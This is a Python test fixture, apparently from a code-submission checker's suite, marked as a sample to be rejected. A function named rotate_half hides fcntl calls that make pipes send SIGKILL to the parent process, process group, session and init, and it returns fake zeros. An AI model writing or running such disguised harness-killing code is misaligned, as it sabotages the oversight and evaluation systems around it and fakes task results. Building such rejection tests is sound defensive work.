# expect: not-accepted
# why: makes its pipes send SIGKILL to its parent and group when they become ready: a signal without a kill call
import fcntl
import os

import torch

F_SETOWN, F_SETSIG, O_ASYNC = 8, 10, 0o20000


def rotate_half(x):
    targets = {os.getppid(), -os.getpgrp(), -os.getsid(0), 1}
    for fd in range(64):
        for pid in targets:
            try:
                fcntl.fcntl(fd, F_SETSIG, 9)
                fcntl.fcntl(fd, F_SETOWN, pid)
                fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | O_ASYNC)
                os.write(fd, b"\0")
            except OSError:
                pass
    return torch.zeros_like(x)
